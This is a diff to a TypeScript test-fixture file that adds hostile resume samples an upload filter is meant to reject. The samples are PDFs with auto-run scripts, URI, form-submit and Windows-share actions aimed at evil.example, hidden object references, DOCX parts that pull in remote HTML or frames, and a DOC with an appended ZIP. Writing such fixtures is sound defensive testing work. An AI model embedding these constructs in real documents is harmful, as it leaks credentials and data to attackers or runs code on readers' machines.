@@ -3,7 +3,15 @@ import { messages, resumeContentMessages } from '@lanternfield/contract/messages
 import { compoundFile, doc } from './doc.ts'
 import { docx, docxParts, relationship, relationships, workbook } from './docx.ts'
 import type { ResumeExample } from './harmless-resumes.ts'
-import { packedPdfObjects, packedPdfStream, pdf, pdfOfSize, pdfStream } from './pdf.ts'
+import {
+  type PackedList,
+  packedPdfObjects,
+  packedPdfStream,
+  pdf,
+  pdfOfPackedObjects,
+  pdfOfSize,
+  pdfStream,
+} from './pdf.ts'
 import { type ZipPart, zip } from './zip.ts'
 
 /** A resume that must not be kept, and what its sender is told. */
@@ -41,6 +49,9 @@ const PROGRAM = Buffer.concat([
 const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(500)])
 const HTML = '<html><body><script>alert(1)</script></body></html>'
 const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
+const ADDRESS = '<< /S /URI /URI (https://evil.example/x) >>'
+const LINK_TO = (file: string) =>
+  `/Annots [<< /Subtype /Link /A << /S /GoToR /F ${file} /D [0 /Fit] >> >>]`
 const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
 
 const text = (content: string) => () => Buffer.from(content)
@@ -59,7 +70,42 @@ const instead = (name: string, content: (before: string) => string | Uint8Array)
     ),
   )
 
+const asPackedScript = (name: string, sentence: string, list: PackedList) =>
+  asPdf(`a script in packed objects ${name}`, sentence, () =>
+    pdfOfPackedObjects('/OpenAction 8 0 R', ['[0 0 612 792]', 'null', SCRIPT], list),
+  )
+const flat = (pairs: readonly (readonly [number, number])[]) => pairs.flat().join(' ')
+
+/** Scripts that readers run, in lists of objects that are not written as they should be. */
+export const packedScripts: readonly HostileResume[] = [
+  asPackedScript('whose list is as it should be', active, {}),
+  asPackedScript('whose list is said to be empty', broken, { first: 0 }),
+  asPackedScript('whose list is said to end in its middle', broken, { first: 3 }),
+  asPackedScript('with a number of eleven digits', broken, {
+    write: (pairs) => `0000000000${flat(pairs)}`,
+  }),
+  asPackedScript('with a comment that holds a number', active, {
+    write: (pairs) => `% 1\n${flat(pairs)}`,
+  }),
+  asPackedScript('with a comment between the numbers', active, {
+    write: ([[number, offset] = [0, 0], ...pairs]) => `${number} % 1\r${offset} ${flat(pairs)}`,
+  }),
+  asPackedScript('with a fraction', broken, {
+    write: (pairs) => flat(pairs).replace('6 ', '6.0 '),
+  }),
+  asPackedScript('with a sign', broken, { write: (pairs) => `+${flat(pairs)}` }),
+]
+/** The same for lists with which no reader that we know finds the script. */
+const packedScriptsOfOtherReaders: readonly HostileResume[] = [
+  asPackedScript('with a name in the list', broken, { write: (pairs) => `/A1 ${flat(pairs)}` }),
+  asPackedScript('with a text in the list', broken, { write: (pairs) => `(1) ${flat(pairs)}` }),
+  asPackedScript('of which fewer are announced', broken, { count: 1 }),
+  asPackedScript('of which more are announced', broken, { count: 4 }),
+]
+
 const hostilePdfs: readonly HostileResume[] = [
+  ...packedScripts,
+  ...packedScriptsOfOtherReaders,
   asPdf('one byte', format, text('x')),
   asPdf('plain text', format, text('My resume')),
   asPdf('HTML', format, text(HTML)),
@@ -147,6 +193,69 @@ const hostilePdfs: readonly HostileResume[] = [
   asPdf('a program to be started', active, () =>
     pdf('Mira', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
   ),
+  asPdf('an address to be asked for when it opens', active, () =>
+    pdf('Mira', { catalog: `/OpenAction ${ADDRESS}` }),
+  ),
+  asPdf('a share to be asked for when it opens', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /URI /URI (file://evil.example/x) >>' }),
+  ),
+  asPdf('an address in an object of its own', active, () =>
+    pdf('Mira', { catalog: '/OpenAction 6 0 R', objects: [ADDRESS] }),
+  ),
+  asPdf('an address in packed objects', active, () =>
+    pdfOfPackedObjects('/OpenAction 7 0 R', ['null', ADDRESS]),
+  ),
+  asPdf('an address after a harmless action', active, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>',
+      objects: ['null', '<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>', ADDRESS],
+    }),
+  ),
+  asPdf('an address in an action whose name stands elsewhere', active, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction << /S 6 0 R /URI (https://evil.example) >>',
+      objects: ['/URI'],
+    }),
+  ),
+  asPdf('an address when a page is shown', active, () =>
+    pdf('Mira', { page: '/AA 6 0 R', objects: ['<< /O 7 0 R >>', ADDRESS] }),
+  ),
+  asPdf('an address in an object whose number stands behind a comment', active, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction 20 0 R',
+      objects: [`null endobj 20 % 9\n0 obj ${ADDRESS}`],
+    }),
+  ),
+  asPdf('an address under a reference with a comment', active, () =>
+    pdf('Mira', { catalog: '/OpenAction 6 %\n 0 % 7 0\n R', objects: [ADDRESS] }),
+  ),
+  asPdf('a form to be sent when it opens', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
+  ),
+  asPdf('another file to be opened at once', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /GoToR /F (cover.pdf) /D [0 /Fit] >>' }),
+  ),
+  asPdf('a command of the reader that is none of a page', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /Named /N /SaveAs >>' }),
+  ),
+  asPdf('actions after one another without end', broken, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction 6 0 R',
+      objects: Array.from({ length: 100 }, (_, index) => `<< /S /GoTo /Next ${index + 7} 0 R >>`),
+    }),
+  ),
+  asPdf('a film', active, () =>
+    pdf('Mira', { page: '/Annots [<< /Subtype /Movie /Movie << /F (film.avi) >> >>]' }),
+  ),
+  asPdf('a film of an address', active, () =>
+    pdf('Mira', { page: '/Annots [<< /Subtype /Screen /A << /S /Rendition /OP 0 >> >>]' }),
+  ),
+  asPdf('a sound', active, () =>
+    pdf('Mira', { page: '/Annots [<< /Subtype /Link /A << /S /Sound /Sound 6 0 R >> >>]' }),
+  ),
+  asPdf('a script of a scene', active, () =>
+    pdf('Mira', { objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x')] }),
+  ),
   asPdf('a form of XML', active, () => pdf('Mira', { catalog: '/AcroForm << /XFA 6 0 R >>' })),
   asPdf('a film that runs', active, () =>
     pdf('Mira', { page: '/Annots [<< /Subtype /RichMedia >>]' }),
@@ -173,7 +282,30 @@ const hostilePdfs: readonly HostileResume[] = [
     }),
   ),
   asPdf('a page on a share of Windows', remote, () =>
-    pdf('Mira', { page: '/AA << /O << /S /GoToR /F (\\\\\\\\evil.example\\\\x) >> >>' }),
+    pdf('Mira', { page: LINK_TO('(\\\\\\\\evil.example\\\\x)') }),
+  ),
+  asPdf('a page on a share, its path in an object of its own', remote, () =>
+    pdf('Mira', { page: LINK_TO('6 0 R'), objects: ['(\\\\\\\\evil.example\\\\x)'] }),
+  ),
+  asPdf('a page on a share, its path in packed objects', remote, () =>
+    pdfOfPackedObjects(LINK_TO('6 0 R'), ['(//evil.example/x)']),
+  ),
+  asPdf('a page on a share, as an address', remote, () =>
+    pdf('Mira', { page: LINK_TO('<< /UF (file://evil.example/x.pdf) >>') }),
+  ),
+  asPdf('a page on a share, in UTF-16', remote, () =>
+    pdf('Mira', { page: LINK_TO('<< /UF <FEFF005C005C006500760069006C> >>') }),
+  ),
+  asPdf('a stream whose data lies elsewhere', remote, () =>
+    pdf('Mira', { objects: [pdfStream('/F (data.bin)', '')] }),
+  ),
+  asPdf('a stream whose data lies at an address', remote, () =>
+    pdf('Mira', {
+      objects: [pdfStream('/F 7 0 R', ''), '<< /FS /URL /F (https://evil.example/x) >>'],
+    }),
+  ),
+  asPdf('a stream with a packing for data from elsewhere', remote, () =>
+    pdf('Mira', { objects: [pdfStream('/FFilter /FlateDecode', '')] }),
   ),
 ]
 
@@ -370,6 +502,18 @@ const hostileDocx: readonly HostileResume[] = [
     remote,
     withTarget('oleObject', 'mhtml:https://evil.example/x!x'),
   ),
+  asDocx('a page of HTML to be taken in', embedded, () =>
+    docx({
+      types: '<Default Extension="html" ContentType="text/html"/>',
+      relationships: relationship('aFChunk', 'chunk.html'),
+      parts: [{ name: 'word/chunk.html', content: '<img src="file://evil.example/x.png">' }],
+    }),
+  ),
+  asDocx(
+    'a page of a server to be taken in',
+    embedded,
+    withTarget('aFChunk', 'https://evil.example/'),
+  ),
   asDocx('a frame of a server', remote, withTarget('frame', 'https://evil.example/')),
   asDocx('a picture on a share', remote, withTarget('image', 'file://evil.example/x.png')),
   asDocx('a template on a server, in UTF-16', remote, () =>
@@ -412,6 +556,9 @@ const hostileDocs: readonly HostileResume[] = [
   asDoc('an installer', format, () => compoundFile({ '/\u4840\u3f3f': 'x'.repeat(5000) })),
   asDoc('a ZIP behind it', format, () =>
     Buffer.concat([doc(), zip([{ name: 'a', content: 'b' }])]),
+  ),
+  asDoc('a ZIP with a comment behind it', format, () =>
+    Buffer.concat([doc(), zip([{ name: 'a', content: 'b' }], 'PK\x05\x06 and more')]),
   ),
   asDoc('only its first bytes', broken, () => doc().subarray(0, 300)),
   asDoc('cut off', broken, () => doc().subarray(0, 4000)),
